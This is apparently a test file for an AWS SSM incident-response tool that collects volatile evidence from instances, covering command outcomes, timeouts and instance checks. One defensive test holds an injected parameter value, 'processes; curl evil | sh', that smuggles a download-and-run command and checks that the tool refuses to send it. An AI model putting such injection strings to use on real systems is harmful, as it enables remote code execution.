import type { SSMClient } from '@aws-sdk/client-ssm';
import { describe, expect, it } from 'vitest';
import { COLLECTION_COMMANDS, memoryToolFrom } from '../../src/volatile/collection-commands.js';
import { outcomeOf } from '../../src/volatile/command-outcome.js';
import { managedInstanceFrom } from '../../src/volatile/managed-instance.js';
import { documentSetOf } from '../../src/volatile/owned-documents.js';
import { runCollectionCommand } from '../../src/volatile/run-command.js';

// moto's SSM always reports Success, so every other command outcome is covered here on recorded
// GetCommandInvocation responses (shapes as AWS returns them).
const recorded = {
  failed: {
    Status: 'Failed',
    StatusDetails: 'Failed',
    ResponseCode: 127,
    StandardErrorContent: 'ss: not found',
  },
  executionTimedOut: { Status: 'TimedOut', StatusDetails: 'ExecutionTimedOut', ResponseCode: -1 },
  deliveryTimedOut: { Status: 'TimedOut', StatusDetails: 'DeliveryTimedOut', ResponseCode: -1 },
  undeliverable: { Status: 'Failed', StatusDetails: 'Undeliverable', ResponseCode: -1 },
  inProgress: { Status: 'InProgress', StatusDetails: 'InProgress', ResponseCode: -1 },
  success: {
    Status: 'Success',
    StatusDetails: 'Success',
    ResponseCode: 0,
    StandardOutputContent: 'root 1 init',
  },
};

/** An SSM client answering SendCommand, then GetCommandInvocation from a script of responses. */
function scriptedSsm(invocations: Array<Record<string, unknown> | Error>) {
  const calls: string[] = [];
  const sent: Array<Record<string, unknown>> = [];
  const client = {
    async send(command: { constructor: { name: string }; input: Record<string, unknown> }) {
      const name = command.constructor.name;
      calls.push(name);
      if (name === 'SendCommandCommand') sent.push(command.input);
      if (name === 'SendCommandCommand') return { Command: { CommandId: 'cmd-1' } };
      if (name === 'CancelCommandCommand') return {};
      const next = invocations.length > 1 ? invocations.shift() : invocations[0];
      if (next instanceof Error) throw next;
      return next;
    },
  };
  return { ssm: client as unknown as SSMClient, calls, sent };
}

const documents = documentSetOf({
  IR_PREFIX: 'ir',
  IR_EVIDENCE_BUCKET: 'ir-evidence-123456789012-us-east-1',
});

const settings = (ssm: SSMClient, clock: { t: number }) => ({
  ssm,
  instanceId: 'i-0abc',
  incidentId: 'inc-1',
  documents,
  timeoutSeconds: 30,
  pollMs: 1000,
  signal: new AbortController().signal,
  now: () => clock.t,
  sleep: async (ms: number) => {
    clock.t += ms;
  },
});

describe('outcomeOf', () => {
  it.each([
    ['failed', recorded.failed, 'failed'],
    ['execution timed out', recorded.executionTimedOut, 'timed_out'],
    ['delivery timed out', recorded.deliveryTimedOut, 'timed_out'],
    ['undeliverable', recorded.undeliverable, 'undeliverable'],
    ['success', recorded.success, 'success'],
    ['in progress', recorded.inProgress, null],
  ])('maps a recorded %s invocation', (_label, invocation, expected) => {
    // Prepare / Act
    const outcome = outcomeOf(invocation);
    // Assess
    expect(outcome).toBe(expected);
  });
});

describe('runCollectionCommand', () => {
  const command = COLLECTION_COMMANDS[0] as (typeof COLLECTION_COMMANDS)[number];

  it('sends the owned CollectVolatile document with its parameters, never AWS-RunShellScript', async () => {
    // Prepare
    const { ssm, sent } = scriptedSsm([recorded.success]);
    // Act
    await runCollectionCommand(command, settings(ssm, { t: 0 }));
    // Assess
    expect(sent).toEqual([
      expect.objectContaining({
        DocumentName: 'ir-CollectVolatile',
        InstanceIds: ['i-0abc'],
        Parameters: { collection: ['processes'], executionTimeout: ['30'] },
      }),
    ]);
  });

  it('refuses a parameter value the document would refuse, and sends nothing', async () => {
    // Prepare
    const { ssm, calls } = scriptedSsm([recorded.success]);
    const injected = { ...command, parameters: { collection: 'processes; curl evil | sh' } };
    // Act / Assess
    await expect(runCollectionCommand(injected, settings(ssm, { t: 0 }))).rejects.toThrow(
      /refusing to send processes with CollectVolatile: collection does not match/,
    );
    expect(calls).toEqual([]);
  });

  it('waits through a missing invocation and InProgress, then records a failure with its stderr', async () => {
    // Prepare
    const missing = Object.assign(new Error('not yet'), { name: 'InvocationDoesNotExist' });
    const { ssm } = scriptedSsm([missing, recorded.inProgress, recorded.failed]);
    // Act
    const result = await runCollectionCommand(command, settings(ssm, { t: 0 }));
    // Assess
    expect(result).toMatchObject({
      outcome: 'failed',
      responseCode: 127,
      stderr: 'ss: not found',
      commandId: 'cmd-1',
    });
  });

  it('records an undeliverable command (agent unreachable) without output', async () => {
    // Prepare
    const { ssm } = scriptedSsm([recorded.undeliverable]);
    // Act
    const result = await runCollectionCommand(command, settings(ssm, { t: 0 }));
    // Assess
    expect(result).toMatchObject({ outcome: 'undeliverable', statusDetails: 'Undeliverable', stdout: '' });
  });

  it('records a command SSM timed out', async () => {
    // Prepare
    const { ssm } = scriptedSsm([recorded.executionTimedOut]);
    // Act
    const result = await runCollectionCommand(command, settings(ssm, { t: 0 }));
    // Assess
    expect(result.outcome).toBe('timed_out');
  });

  it('cancels and records a time-out when no final status arrives before its own deadline', async () => {
    // Prepare
    const { ssm, calls } = scriptedSsm([recorded.inProgress]);
    // Act
    const result = await runCollectionCommand(command, settings(ssm, { t: 0 }));
    // Assess
    expect(result.outcome).toBe('timed_out');
    expect(result.statusDetails).toContain('cancelled');
    expect(calls).toContain('CancelCommandCommand');
  });

  it('flags stdout cut at SSM 24,000-character limit', async () => {
    // Prepare
    const { ssm } = scriptedSsm([{ ...recorded.success, StandardOutputContent: 'x'.repeat(24_000) }]);
    // Act
    const result = await runCollectionCommand(command, settings(ssm, { t: 0 }));
    // Assess
    expect(result).toMatchObject({ outcome: 'success', truncated: true });
  });
});

describe('managedInstanceFrom', () => {
  // moto does not implement DescribeInstanceInformation: recorded InstanceInformationList entries.
  it.each([
    ['no entry', undefined, false, 'not managed by SSM'],
    ['ConnectionLost', { PingStatus: 'ConnectionLost', PlatformType: 'Linux' }, false, 'ConnectionLost'],
    ['Windows', { PingStatus: 'Online', PlatformType: 'Windows' }, false, 'Linux only'],
    ['Online Linux', { PingStatus: 'Online', PlatformType: 'Linux', AgentVersion: '3.3.987.0' }, true, null],
  ])('interprets %s', (_label, info, managed, reason) => {
    // Prepare / Act
    const result = managedInstanceFrom('i-0abc', info);
    // Assess
    expect(result.managed).toBe(managed);
    if (reason) expect(result.reason).toContain(reason);
    else expect(result.reason).toBeNull();
  });
});

describe('memoryToolFrom', () => {
  it('finds a tool already on the host and nothing otherwise', () => {
    // Prepare / Act / Assess
    expect(memoryToolFrom('tool=avml:/usr/local/bin/avml\n')).toEqual({
      tool: 'avml',
      path: '/usr/local/bin/avml',
    });
    expect(memoryToolFrom('tool=lime:/opt/lime/lime.ko')).toEqual({
      tool: 'lime',
      path: '/opt/lime/lime.ko',
    });
    expect(memoryToolFrom('tool=none')).toBeNull();
  });
});
